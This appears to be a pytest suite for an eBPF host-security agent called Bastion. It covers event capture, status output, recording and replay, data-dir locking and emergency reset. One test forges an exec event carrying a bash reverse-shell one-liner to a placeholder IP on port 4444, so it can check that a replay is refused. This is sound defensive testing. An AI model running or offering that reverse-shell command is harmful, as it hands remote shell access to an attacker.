"""bastion run / status / events / record / reset as a user runs them."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from conftest import BASTION, AgentProc, start_agent  # type: ignore[import-not-found]


def _wait_events(agent: AgentProc, *args: str, want: int = 1, timeout: float = 10) -> list[dict]:  # type: ignore[type-arg]
    deadline = time.monotonic() + timeout
    while True:
        r = agent.cli("events", "--data-dir", str(agent.data_dir), "--json", *args)
        rows = [json.loads(l) for l in r.stdout.splitlines() if l.strip()]
        if len(rows) >= want or time.monotonic() > deadline:
            return rows
        time.sleep(0.2)


def test_workload_events_reach_the_store(agent: AgentProc, tmp_path: Path) -> None:
    target = tmp_path / "written.txt"
    p = subprocess.Popen(["/bin/sh", "-c", f"echo hi > {target}; exit 5"])
    assert p.wait() == 5
    execs = _wait_events(agent, "--type", "exec", "--pid", str(p.pid))
    assert len(execs) == 1
    ev = execs[0]
    assert ev["argv"] == ["/bin/sh", "-c", f"echo hi > {target}; exit 5"]
    assert ev["ppid"] == os.getpid() and ev["exe"].endswith("dash")
    for key in ("type", "time", "pid", "ppid", "exe"):
        assert key in ev
    exits = _wait_events(agent, "--type", "exit", "--pid", str(p.pid))
    assert [e["exit_code"] for e in exits] == [5]
    opens = _wait_events(agent, "--type", "open", "--pid", str(p.pid))
    assert [e["path"] for e in opens] == [str(target)]
    assert opens[0]["exe"].endswith("dash")  # enriched from the process table
    table = agent.cli("events", "--data-dir", str(agent.data_dir), "--pid", str(p.pid))
    assert str(target) in table.stdout and "exec" in table.stdout


def test_status_over_the_control_socket(agent: AgentProc) -> None:
    r = agent.cli("status", "--socket", str(agent.socket), "--json")
    st = json.loads(r.stdout)
    assert st["pid"] == agent.proc.pid
    assert st["tier"] in ("lsm", "compat")
    assert st["programs_attached"] >= 40
    for key in ("events_per_s", "drops", "uptime_s", "rss_mb", "events_total", "ring_fill"):
        assert key in st
    assert st["drops"] == 0 and st["rss_mb"] > 0
    human = agent.cli("status", "--socket", str(agent.socket))
    assert f"agent        pid {agent.proc.pid}," in human.stdout
    # readable text for people: every protection on/off with why, no Python reprs
    assert "{'" not in human.stdout and "[]" not in human.stdout
    for name in ("behaviour blocking", "hips", "ransomware shield", "kernel integrity guard", "sigma"):
        assert any(line.strip().startswith(name) and (" on " in line or " OFF " in line)
                   for line in human.stdout.splitlines()), (name, human.stdout)
    assert (agent.socket.stat().st_mode & 0o777) == 0o600


def test_clean_stop_prints_a_summary(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("the agent needs root")
    a = start_agent(tmp_path, "--quiet")
    subprocess.run(["/bin/true"])
    time.sleep(0.3)
    a.proc.send_signal(signal.SIGINT)
    assert a.proc.wait(timeout=20) == 0
    time.sleep(0.1)
    summary = "".join(a.stderr)
    assert "stopped after" in summary and "events" in summary
    assert not a.socket.exists()


def test_second_agent_on_the_same_socket_is_refused(agent: AgentProc, tmp_path: Path) -> None:
    r = subprocess.run([BASTION, "run", "--data-dir", str(tmp_path / "d2"), "--socket", str(agent.socket)],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 1
    assert "another Bastion agent is already running" in r.stderr
    assert str(agent.socket) in r.stderr
    assert agent.cli("status", "--socket", str(agent.socket), "--json").returncode == 0


def test_record_writes_the_replay_format(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("record needs root")
    out = tmp_path / "trace.jsonl"
    rec = subprocess.Popen([BASTION, "record", str(out), "--duration", "4", "--class", "exec"],
                           stderr=subprocess.PIPE, text=True)
    assert rec.stderr is not None
    first = rec.stderr.readline()  # printed once the programs are attached
    assert "bastion: recording to" in first, first
    marker = subprocess.Popen(["/bin/echo", "bastion-record-marker"], stdout=subprocess.DEVNULL)
    marker.wait()
    _, err = rec.communicate(timeout=60)
    assert rec.returncode == 0, err
    rows = [json.loads(l) for l in out.read_text().splitlines()]
    assert {r["type"] for r in rows} == {"exec"}
    assert any(r["pid"] == marker.pid and r["argv"] == ["/bin/echo", "bastion-record-marker"] for r in rows)
    # and the agent replays it
    rep = subprocess.run([BASTION, "run", "--replay", str(out), "--quiet", "--data-dir",
                          str(tmp_path / "rd"), "--socket", str(tmp_path / "r.sock")],
                         capture_output=True, text=True, timeout=60)
    assert rep.returncode == 0, rep.stderr
    assert f"{len(rows)} events" in rep.stderr


def test_a_replay_into_a_live_agents_data_dir_is_refused(agent: AgentProc,
                                                          tmp_path: Path) -> None:
    """s26 (left by the s25 review): a replay refused only the default data dir, so one
    aimed at a live agent's other data dir wrote a recording's alerts (a reverse shell
    here) into its tamper-evident store as this host's.  The live agent holds the data
    dir's owner lock: the replay is refused, naming the agent, and the store is not
    touched."""
    from bastion.events import ExecEvent, Proc, to_json

    me = Proc(4_194_000, 4_194_000, 1, 0, 0, 0, 7, "bash", 1, "/usr/bin/bash")
    ev = ExecEvent(time.time_ns(), me, filename="/usr/bin/bash", cwd="/tmp",
                   argv=("bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"))
    trace = tmp_path / "forged.jsonl"
    trace.write_text(json.dumps(to_json(ev)) + "\n")

    def alerts() -> list[str]:
        r = agent.cli("alerts", "--data-dir", str(agent.data_dir), "--json")
        return [json.loads(l)["rule"] for l in r.stdout.splitlines() if l.strip()]

    before = alerts()
    rep = subprocess.run([BASTION, "run", "--replay", str(trace), "--quiet", "--data-dir",
                          str(agent.data_dir), "--socket", str(tmp_path / "r.sock")],
                         capture_output=True, text=True, timeout=60)
    assert rep.returncode != 0, rep.stderr
    assert "another Bastion process holds this data dir" in rep.stderr, rep.stderr
    assert f"pid {agent.proc.pid}" in rep.stderr and "agent.lock" in rep.stderr, rep.stderr
    time.sleep(1.0)
    after = alerts()
    assert not any(r.startswith("behavior.reverse_shell") for r in after[len(before):]), after
    assert agent.proc.poll() is None
    agent.cli("status", "--socket", str(agent.socket))


def test_an_agent_whose_data_dir_lock_is_held_runs_and_says_so(tmp_path: Path) -> None:
    """s26 review: a root who holds the owner lock must not keep the agent down.  The
    agent waits 5 s for the holder, then runs and raises a high
    `bastion.store.owner_lock` naming the holder's pid (from /proc/locks)."""
    if os.geteuid() != 0:
        pytest.skip("the agent needs root")
    from bastion.store.db import lock_data_dir

    data = tmp_path / "data"
    data.mkdir(mode=0o700)
    held = lock_data_dir(data)
    try:
        agent = start_agent(tmp_path, "--quiet")
        try:
            assert any("another Bastion process holds this data dir" in l
                       and f"pid {os.getpid()}" in l for l in agent.stderr), agent.stderr
            deadline = time.monotonic() + 20
            while True:
                r = agent.cli("alerts", "--data-dir", str(agent.data_dir), "--json")
                rows = [json.loads(l) for l in r.stdout.splitlines() if l.strip()]
                got = [a for a in rows if a["rule"] == "bastion.store.owner_lock"]
                if got or time.monotonic() > deadline:
                    break
                time.sleep(0.5)
            assert got and got[0]["severity"] == "high", rows
            assert agent.proc.poll() is None
        finally:
            agent.stop()
    finally:
        os.close(held)


def test_reset_emergency_removes_bastion_pins(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root")
    from bastion.kernel.bpffs import ensure_bpffs
    from bastion.kernel.libbpf import BpfObject
    from bastion.paths import bpf_object

    ensure_bpffs()
    root = Path("/sys/fs/bpf") / f"bastion-test-reset-{os.getpid()}"
    root.mkdir()
    try:
        with BpfObject.open(bpf_object("probe_compat.bpf.o")) as obj:
            obj.load()
            obj.program("probe_connect4")
            for m in obj.maps():
                m.pin(root / m.name.replace(".", "_"))
        assert any(root.iterdir())
        r = subprocess.run([BASTION, "reset", "--emergency", "--pin-root", str(root)],
                           capture_output=True, text=True, timeout=30)
        assert r.returncode == 0, r.stderr
        assert not root.exists()
        assert "removed" in r.stdout
    finally:
        if root.exists():
            from bastion.kernel.bpffs import remove_pins
            remove_pins(root)
